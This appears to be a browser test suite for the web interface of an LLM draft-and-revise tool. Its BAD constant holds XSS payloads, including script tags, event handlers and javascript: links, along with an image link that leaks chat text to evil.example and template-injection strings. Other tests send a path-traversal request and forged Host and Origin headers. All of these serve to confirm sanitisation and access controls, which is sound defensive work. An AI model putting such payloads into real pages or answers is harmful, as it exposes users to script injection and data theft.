from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.serve.page.browsing import ON_TOP, Browsing, serving

DRAFT = "Rain is **water**, and it is wet, and it is cold, and it falls from the sky."
MIDDLE = "Rain is **water**, and it falls from the sky."
SHORT = "Rain is **water** that falls."
BAD = """# Hello <script>document.title = 'owned'</script>
<img src=x onerror="document.title='owned'"> <svg onload="document.title='owned'"></svg>
<style>body { display: none }</style> <iframe src="https://evil.example/i"></iframe>
<form action="https://evil.example/f"><button>Go</button></form>

[click](javascript:document.title='owned') [data](data:text/html,<script>document.title='owned'</script>)
[a](<javascript:document.title='owned'>) [b](vbscript:x) <a href="javascript:document.title='owned'">c</a>

![secret](https://evil.example/p.png?what-you-said) ![pixel](data:image/svg+xml,<svg/onload=alert(1)>)
![x](x" onerror="document.title='owned') [kind](https://evil.example/page "onmouseover=alert(1)")

$$\\href{javascript:document.title='owned'}{x}$$ \\(\\url{https://evil.example/l}\\)
$\\unicode{<img src=x onerror=alert(1)>}$

```mermaid
graph TD; A[<img src=x onerror="document.title='owned'">]
```
{{constructor.constructor("document.title='owned'")()}} ${document.title='owned'} <%= 1 %>
"""
RICH = """<think>Let me see.</think>
| name | mm |
|---|--:|
| rain | 12 |

It costs $5 or $6. Energy is $E = mc^2$, and

$$
\\int_0^1 x\\,dx
$$

```python
def rain(): return 1
```

المطر ماء
"""
WRONG = "Rain is <b title=x>wet</b>, **and** `wet` & cold, as everybody says who was out in it for long."
DRY = "lacks[regex]:wet"
MODELS: dict[str, Any] = {
    "rain": {"replies": [DRAFT, MIDDLE, SHORT], "check": ["words<=5"]},
    "bad": {"replies": [BAD], "max-revisions": 0},
    "slow": {"replies": [{"text": "Rain", "stall": 600}], "max-revisions": 0},
    "critic": {"replies": ["Rain", {"text": "It is", "stall": 600}], "max-revisions": 1},
    "broken": {"replies": [{"text": "Rain is", "error": "the model fell over"}], "max-revisions": 0},
    "code": {
        "replies": ["1. **Run**:\n\n   ```\n   print(1)\n   ```\n\n2. That is all."],
        "max-revisions": 0,
    },
    "silent": {"replies": [""], "max-revisions": 1},
    "plain": {"replies": [DRAFT, SHORT], "max-revisions": 0},
    "wrong": {
        "replies": [f"🌧 {WRONG}", f"{WRONG} **It** falls."],
        "check": ["lacks:wet", "lacks:cold"],
        "max-revisions": 1,
    },
    "patched": {
        "replies": ["It rains and it pours, day and night. It is wet.", "[1] It drips."],
        "check": [DRY],
    },
    "edited": {"replies": ["It is 🌧 wet. It is **very wet**.", "cold"], "max-revisions": 0},
    "kept": {"replies": ["It is 🌧 wet. It is **very wet**."] + ["wet"] * 4, "check": ["sentences>=2"]},
    "kind": {"replies": [SHORT]},
    "tied": {"replies": [SHORT, "It is dull. Revision is needed.", "It drips."], "check": ["words<=5"]},
    "wordy": {"replies": [DRAFT] * 4, "check": ["words<=5", "contains:rain"], "max-revisions": 1},
    "rich": {"replies": [RICH], "max-revisions": 0},
    "huge": {
        "replies": [{"settings": {"chunk": 2_000}}, "<b>" + "Rain is wet. " * 90_000],
        "max-revisions": 0,
        "max-tokens": 2_000_000,
    },
    "long": {"replies": ["# Rain\n\n" + "Rain is water, and it is wet. " * 400], "max-revisions": 0},
}


@pytest.fixture(scope="module")
def url(folder: Path) -> Iterator[str]:
    with serving(folder, MODELS, "--parallel", "2", "--queue", "1") as address:
        yield address


def test_an_answer_is_drafted_revised_and_judged(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, "Describe rain.")
    turn = visit.answered("Rain is water that falls.")
    assert not turn.locator("details.path[open]").count()
    assert turn.locator(".path > summary").inner_text() == "Revised twice · the draft: ✗ 12 words, at most 5"
    steps = visit.steps()
    assert steps.locator("summary .name").all_inner_texts() == ["Draft", "Revision 1", "Revision 2"]
    assert not turn.locator("details.step[open]").count()
    steps.nth(2).locator("summary").click()
    assert steps.nth(2).locator("ins").first.inner_text() == "added"
    assert steps.nth(2).locator(".diff del").inner_text() == ", and it falls from the sky"
    assert "5 words" in steps.nth(2).locator("li.pass").inner_text()
    assert turn.locator(".final strong").inner_text() == "water"
    assert turn.locator(".verdict summary").inner_text() == "✓ 5 words, at most 5"
    assert visit.page.locator(".about").inner_text() == "drafts, and revises up to 3 times"
    assert visit.page.title() == "Describe rain. · redraft"
    assert (visit.faults, visit.foreign()) == ([], set())


def test_an_unrevised_answer_stands_once_and_a_tick_is_no_approval(browser: Browsing, url: str) -> None:
    visit = browser.open(url)
    checked = visit.page.locator(".examples small")
    assert checked.all_inner_texts() == ["checked: exactly 1 sentence", "checked: exactly 3 bullets"]
    visit.choose("kept")  # has a check of sentences
    checked.nth(1).wait_for(state="detached")
    assert checked.all_inner_texts() == ["checked: exactly 3 bullets"]
    visit.choose("kind")
    visit.page.locator(".empty", has_text="your checks. You have none yet").wait_for()
    visit.choose("plain")
    visit.page.get_by_role("button", name="Name three fruits").click()
    turn = visit.answered()
    assert "Checked: exactly 3 bullets" in turn.locator(".you").inner_text()
    assert "0 bullets, exactly 3" in turn.locator(".verdict .bad").inner_text()
    visit.check("words>=3")  # the example's check was for its question alone
    visit.ask("Describe rain.")
    visit.page.locator(".turn").nth(1).wait_for()
    turn = visit.answered()
    assert turn.locator(".verdict summary").inner_text() == "✓ 17 words, at least 3"
    assert not turn.locator(".path, .step, .good, .bad").count()
    assert turn.inner_text().count("falls from the sky") == 1
    assert " tokens" in turn.locator(".meta", has_text="plain · ").inner_text()
    used = [{"usage": {"completion_tokens": 60, "seconds": each}} for each in (0.5, 0.05)]
    said = visit.told("chain.js", "return given.map((each) => own.endOf(each));", used)
    assert said == ["0.5 s · 60 tokens, 120 a second", "0.1 s · 60 tokens"]
    visit.page.get_by_text("about 65 tokens of context").wait_for()
    turn.locator(".verdict summary").click()
    assert (turn.locator(".verdict li code").inner_text(), visit.faults) == ("words>=3", [])
    turn.get_by_role("button", name="Revise again").click()
    visit.page.get_by_text("2 of 2").wait_for()
    visit.answered()
    visit.page.get_by_text("about 65 tokens of context").wait_for()  # without the steps


WORDS = "return given.map((t) => ((t.chain && own.pathOf(t.chain)) || own.brokenOff(t)).split(':')[0]);"


def test_an_answer_tells_how_it_came_to_be_and_why_it_is_not_whole(browser: Browsing, url: str) -> None:
    def turn(*steps: Any, **chain: Any) -> dict[str, Any]:
        return {"chain": {"steps": [{"answer": "x", **each} for each in steps], "best": 0, **chain}}

    mine, stopped = {"feedback": {"by": "person", "verdict": "revise"}}, {"stop": "cancelled"}
    ticked = {"feedback": {"checks": [{"name": "json", "passed": True, "score": 1, "message": "It is."}]}}
    said = {
        "This answer is not finished": {"left": True},
        "You stopped before there was an answer.": {},
        "You stopped this answer before its end.": turn({"finish": "cancelled"}, **stopped),
        "You stopped the revision. This is the best answer so far.": turn({}, **stopped),
        "The answer was cut": turn({"finish": "max_tokens"}),
        "The passage was not changed. Ask again, or mark a whole sentence.": turn(mine, stop="ended"),
        "Not changed": turn(mine, meta={"unchanged": [{"passage": "y", "why": "the same came back"}]}),
        "Changed as you asked": turn(mine, {}, best=1),
        "Revised twice · the draft was kept": turn({}, {}, {}),
        "The best of 2 drafts": turn(ticked, drafts=[{"answer": "y"}]),
        "One of 2 drafts": turn({}, drafts=[{"answer": "y"}]),
        "": turn({}, stop="ended"),
    }
    visit, told = browser.open(url), "Well.\nThe judge gives the answer 9 of 10."
    assert visit.told("chain.js", WORDS, [*said.values()]) == [*said]
    chain = {"meta": {"answered_by": "its own revision"}, "usage": {"seconds": 0.01, "completion_tokens": 3}}
    said_of_it = "answered by its own revision · 0.0 s · 3 tokens"
    assert visit.told("chain.js", "return own.endOf(given);", chain) == said_of_it
    being = "return given.map((weights) => own.beingOf({ redraft: { weights } }).slice(0, 32));"
    said_of = ["200 million weights. It is small", "3 billion weights", ""]
    assert visit.told("settings.js", being, [2e8, 3e9, None]) == said_of
    checks = ["items=2..4", "lines==1", "lacks:wet", "json", "words<9", "any(json; unique)"]
    plain = ["2 to 4 items", "exactly 1 line", "without “wet”", "JSON", "words<9", "any(json; unique)"]
    assert visit.told("chain.js", "return given.map(own.plainOf);", checks) == plain
    reading = "return given.map((content) => new own.Live([{ content }]).doing);"
    doing = ["Thinking", "Reading about 1,300 tokens and thinking"]
    assert visit.told("chain.js", reading, ["rain " * 100, "rain " * 1000]) == doing
    cut = "const live = new own.Live([]); live.take(given); return live.cut('error').steps[0].finish;"
    assert visit.told("chain.js", cut, {"choices": [{"delta": {"content": "It is"}}]}) == "error"
    for finish, whose in (("error", "The answer"), ("stop", "Revising")):
        given = {**turn({"finish": finish}), "error": "no."}
        assert visit.told("chain.js", "return own.errorOf(given);", given) == f"{whose} broke off: no."
    for message, short in (
        ('The answer contains "y" once, on line 1. It must not.', 'contains "y" once, on line 1'),
        (
            'Not in the request: the name "Y". Use only what the request has.',
            'not in the request: the name "Y"',
        ),
    ):
        assert visit.told("chain.js", "return own.foundBy({ name: 'y', message: given });", message) == short
    judged = {"feedback": {"checks": [{"name": "judge:kind", "passed": True, "message": told}]}}
    [found] = visit.told("chain.js", "return own.verdictsOf(given);", judged)
    assert found == ["good", "✓", "The judge gives the answer 9 of 10"]  # its content was judged
    judged["answer"] = "Rain falls on roofs. " * 3
    assert visit.told("chain.js", "return own.verdictsOf(given);", judged) == [
        ["bad", "✗", "repeats itself"],
        found,
    ]


@pytest.mark.slow
def test_an_answer_that_fails_says_so_in_words(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, "Describe rain.", "wordy")
    said = visit.answered().locator(".verdict summary").text_content().split()
    assert " ".join(said) == '✗ failed: 17 words, at most 5 ✓ contains "rain" on line 1'


@pytest.mark.slow
def test_checks_are_added_changed_and_removed(browser: Browsing, url: str) -> None:
    visit = browser.open(url)
    page = visit.page
    visit.choose("plain")
    page.get_by_role("button", name="+ Check").click()
    page.get_by_label("Check", exact=True).type("word<=5")
    page.get_by_text("no check is called 'word'. Did you mean 'words'?").wait_for()
    page.keyboard.press("Enter")  # it is refused
    page.get_by_label("Check", exact=True).fill("words<=6")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Change the check words<=6").click()
    page.get_by_label("Check", exact=True).fill("words<=5")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Change the check words<=5").wait_for()
    visit.ask("Describe rain.")
    verdict = visit.answered(SHORT.replace("*", "")).locator(".verdict summary")
    assert verdict.inner_text() == "✓ 5 words, at most 5"
    page.get_by_role("button", name="Remove the check words<=5").click()
    visit.ask("And snow?")
    visit.page.locator(".turn").nth(1).wait_for()
    assert not visit.answered("").locator(".verdict").count()
    assert visit.faults == []


def test_auto_says_what_it_found_in_each_question(browser: Browsing, url: str) -> None:
    visit = browser.open(url)
    visit.choose("plain")
    visit.check("auto")
    visit.check("words>=3")
    chips = visit.page.locator(".chip > button:first-child")
    assert chips.all_inner_texts() == ["from the question", "at least 3 words"]
    for question, said in (
        ("Describe rain in at most 20 words.", "Checks from the question: at most 20 words"),
        ("Describe rain.", "Nothing to check in this question"),
    ):
        visit.ask(question)
        assert visit.page.locator(".turn", has_text=said).last.locator(".you .label").inner_text() == said


@pytest.mark.slow
def test_nothing_in_an_answer_does_anything(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, BAD, "bad")
    turn = visit.answered("Hello")
    turn.locator(".katex").first.wait_for()
    visit.page.wait_for_timeout(300)
    assert visit.page.title().startswith("# Hello <script>")
    final = turn.locator(".final")
    active = "img, script, style, iframe, form, button:not(.copy), input, object, [style*=url]"
    assert final.locator(active).count() == 0
    assert turn.locator(".you").locator("script, img, style, iframe").count() == 0
    links = final.locator("a")
    assert links.evaluate_all("all => all.map(each => each.getAttribute('href'))") == [
        "https://evil.example/page"
    ]
    assert "evil.example" in links.inner_text()
    handlers = "e => [...e.querySelectorAll('*')].flatMap(x => x.getAttributeNames())"
    assert not [name for name in turn.evaluate(handlers) if name.startswith(("on", "src"))]
    for said in ("[picture: secret]", "<script>", "<img src=x onerror", "javascript:document"):
        assert said in final.inner_text()
    assert (visit.faults, visit.foreign()) == ([], set())


@pytest.mark.slow
def test_a_long_answer_is_shown_as_it_is(browser: Browsing, url: str) -> None:
    turn = browser.asking(url, "Write.", "huge").answered("<b>")
    assert len(turn.locator(".final").inner_text()) > 1_000_000
    assert not turn.locator(".final b").count()


@pytest.mark.slow
def test_tables_mathematics_code_and_other_directions_are_shown_as_such(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, "Show.", "rich")
    turn = visit.answered()
    turn.locator(".katex").first.wait_for()
    turn.locator(".hljs-keyword").first.wait_for()
    assert turn.locator("td.right").inner_text() == "12"
    assert turn.locator(".katex").count() == 2
    assert "costs $5 or $6" in turn.locator(".final").inner_text()
    assert turn.locator(".code .head").first.inner_text().startswith("python")
    arabic = turn.locator("p", has_text="المطر").last
    assert arabic.evaluate("each => getComputedStyle(each).direction") == "rtl"
    assert turn.locator("details.thinking summary").inner_text().startswith("Thought")
    assert "Let me see" not in turn.locator(".final").inner_text()
    assert (visit.faults, visit.foreign()) == ([], set())


@pytest.mark.slow
def test_a_patch_says_what_it_took(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, "Describe rain.", "patched")
    visit.answered("It rains and it pours, day and night. It drips.")
    assert visit.steps().locator(".pill").all_inner_texts()[1] == "1 place rewritten, 13 tokens"


FAULTS = """
  const checks = [{ passed: false, message: "No.", places: given }];
  return own.faultsOf({ answer: 'So: {"a/b": [7, {"c": "🌧 x"}], "d": 1}', feedback: { checks } });
"""


def test_what_is_wrong_is_underlined_and_says_why(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, "Describe rain.", "wrong")
    turn = visit.answered()
    for step in visit.steps().locator("summary").all():
        step.click()
    for where in (".step .text", ".final"):
        assert turn.locator(f"{where} u.wrong").all_inner_texts()[:2] == ["wet", "wet"]
    wrong = turn.locator(".diff u.wrong")
    wrong.last.wait_for()
    assert wrong.all_inner_texts() == ["wet", "wet", "cold"]
    assert str(wrong.last.get_attribute("title")).startswith('The answer contains "cold"')
    assert f"{WRONG.replace('**', '').replace('`', '')} It falls." in turn.locator(".diff").inner_text()
    odd = [[-1, 2], [5, 4], [0, 99], ["x", 2], [1], 7, None, {}, "", "/d/1", "/a~1b/2", "/e", "c"]
    found = visit.told("chain.js", FAULTS, [*odd, "/a~1b/0", "/a~1b/1", "/d", [27, 28]])
    assert [(begin, end - begin) for begin, end, _ in found] == [(4, 35), (13, 1), (16, 13), (28, 1), (37, 1)]
    assert (visit.faults, visit.foreign()) == ([], set())


SELECT = """(text) => {
  document.activeElement.blur();
  getSelection().setBaseAndExtent(text.firstChild, 5, text.firstChild, 8);
  text.dispatchEvent(new MouseEvent("mouseup", { bubbles: true }));
}"""


def test_a_passage_that_is_marked_is_changed_alone(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, "How is rain?", "edited")
    visit.answered().locator(".final strong").evaluate(SELECT)
    form = visit.page.locator("form.editor")
    assert form.locator("q").inner_text() == "wet"
    assert form.locator("label > span").inner_text() == "What should be different in wet?"
    visit.page.keyboard.type("its temperature")  # goes to the form, without a click
    visit.page.keyboard.press("Enter")
    turn = visit.answered()
    assert turn.locator(".final").inner_text() == "It is 🌧 wet. It is very cold."
    visit.steps().first.locator("summary").click()
    assert "“wet” → its temperature" in turn.locator(".step .feedback").inner_text()
    assert turn.locator(".step .pill").first.inner_text() == "you marked a passage"
    assert (visit.faults, visit.foreign()) == ([], set())


def test_a_passage_that_comes_back_the_same_makes_no_version(browser: Browsing, url: str) -> None:
    visit = browser.asking(url, "How is rain?", "kept")
    visit.answered().locator(".final strong").evaluate(SELECT)
    visit.page.keyboard.type("its temperature\n")
    visit.page.locator(".broken", has_text="Not changed: “wet”").wait_for()
    turn = visit.answered()
    visit.page.set_viewport_size({"width": 390, "height": 400})
    visit.page.evaluate("scrollTo(0, 0)")  # it no longer follows the answer
    turn.locator(".final p").click(click_count=3, delay=50)  # slow enough for a frame between two clicks
    visit.page.locator("form.editor q", has_text="It is 🌧 wet. It is **very wet**.").wait_for()
    visit.page.wait_for_function(ON_TOP, arg=visit.page.query_selector("form.editor .main"))
    assert turn.locator(".verdict summary").inner_text() == "✓ 2 sentences, at least 2"
    assert not turn.locator(".branches").count()


PATCHED = """const live = new own.Live([]);
return given.map((redraft) => (live.take({ choices: [{ delta: { redraft } }] }), live.patched));"""


def test_a_patch_is_shown_in_place_while_it_is_written(browser: Browsing, url: str) -> None:
    begun: dict[str, Any] = {"type": "patch", "index": 1, "text": "", "place": [3, 8]}
    said = [begun, {**begun, "text": "co"}, {**begun, "text": 'ld"'}, begun, {**begun, "text": "dry"}]
    draft = {"type": "step", "index": 0, "step": {"answer": "🌧: it is wet."}}
    told = browser.open(url).told("chain.js", PATCHED, [draft, *said, {**begun, "text": "!", "place": None}])
    assert (told[2:4], told[5:]) == (["🌧: co wet.", "🌧: cold wet."], ["🌧: dry wet.", "dry!"])


DIFFS = "return given.map(([before, after]) => own.changes(before, after));"


def test_the_parts_of_a_diff_are_both_texts_and_few(browser: Browsing, url: str) -> None:
    pairs = [
        ["Rain is wet, cold and grey.", "Rain is wet and grey."],
        ["One two three four five six.", "One two 3 four five six seven."],
        ["Ä ö\n\nü 雨が降る", "Ä ö\n\nü 雪が降る"],
        ["a b c d e f g h", "i j k l m n o p"],
        ["word " * 3000, "word " * 3001],
        ["", "Rain."],
    ]
    first, second, third, *whole = browser.open(url).told("chain.js", DIFFS, pairs)
    assert first == [["same", "Rain is wet"], ["gone", ", cold"], ["same", " and grey."]]
    for found, (before, after) in zip((first, second, third), pairs, strict=False):
        assert "".join(text for kind, text in found if kind != "new") == before
        assert "".join(text for kind, text in found if kind != "gone") == after
    assert whole == [None] * 3  # too different, or too long


DOCUMENT = """
  const box = document.createElement("div");
  box.append(own.compared(...given).nodes);
  const shown = [...box.querySelectorAll("td, li, p, pre code")];
  return shown.map(({ tagName, innerHTML }) => `${tagName} ${innerHTML.trim()}`);
"""


def test_a_diff_marks_words_in_cells_items_and_lines(browser: Browsing, url: str) -> None:
    before = "| a |||\n|-|-|-|\n| rain | 12 |\n| snow | 3 | 7 |\n\n- i\n- j\n\n```\n1\n```\n\nماء بارد"
    after = before.replace("| rain | 12 |\n", "").replace("3", "7").replace("- j", "- j k")
    pair = [before, after.replace("1\n", "2\n").replace("بارد", "دافئ")]
    assert browser.open(url).told("markdown.js", DOCUMENT, pair) == [
        "TD <del>rain</del>", "TD <del>12</del>", "TD ", "TD snow", "TD <del>3</del><ins>7</ins>", "TD 7",
        "LI i", "LI j<ins> k</ins>", "CODE <del>1</del><ins>2</ins>", "P ماء<del> بارد</del><ins> دافئ</ins>",
    ]  # fmt: skip


@pytest.mark.slow
def test_the_answer_and_its_code_are_copied(browser: Browsing, url: str) -> None:
    visit = browser.open(url, permissions=["clipboard-read", "clipboard-write"])
    visit.choose("code")
    visit.ask("How?")
    turn = visit.answered("That is all")
    answer = MODELS["code"]["replies"][0]
    for label, text in {"Copy the code": "print(1)", "Copy": answer}.items():
        turn.get_by_role("button", name=label, exact=True).click()
        turn.locator("button.copied").wait_for()
        assert visit.page.evaluate("navigator.clipboard.readText()") == text
        turn.locator("button.copied").wait_for(state="detached")
    rich = "navigator.clipboard.read().then(all => all[0].getType('text/html')).then(html => html.text())"
    html = visit.page.evaluate(rich)
    assert "<strong>Run</strong>" in html
    assert "button" not in html
    assert visit.faults == []


CLOSED = (
    "GET /config", "GET /page/", "GET /page/mount.py", "GET /page/../keys.py", "GET /page/static/app.js",
    "POST /login", "POST /logout", "GET /page/votes", "POST /", "PUT /page/votes", "GET /static/app.js",
)  # fmt: skip


def test_routes_that_the_page_does_not_need_are_closed(url: str) -> None:
    with httpx.Client(base_url=url) as client:
        found = {route: client.request(*route.split()).status_code for route in CLOSED}
    assert {route: status for route, status in found.items() if status not in (404, 405)} == {}


def test_the_policy_lets_the_page_load_and_run_its_own_alone(url: str) -> None:
    page = httpx.get(url)
    policy = dict(part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == policy["form-action"] == policy["base-uri"] == "'none'"
    assert (
        policy["script-src"] == policy["style-src"] == policy["connect-src"] == policy["font-src"] == "'self'"
    )
    assert policy["frame-ancestors"] == "'none'"
    assert page.text.count("<script") == page.text.count('<script type="module" src=') == 1
    assert "style=" not in page.text
    assert httpx.get(url, headers={"Host": "evil.example"}).status_code == 403
    origin = httpx.post(f"{url}page/votes", headers={"Origin": "https://evil.example"}, json={})
    assert origin.status_code == 403


def test_files_are_small_and_kept_by_the_browser(browser: Browsing, url: str) -> None:
    visit = browser.open(url)
    sizes = visit.page.evaluate(
        "performance.getEntries().map(each => each.encodedBodySize || 0).reduce((all, each) => all + each)"
    )
    assert 20_000 < sizes < 600_000
    [app] = [each for each in visit.requests if each.endswith("/app.js")]
    assert "immutable" in httpx.get(app).headers["cache-control"]
    assert httpx.get(app.replace("/page/", "/page/0")).status_code == 404
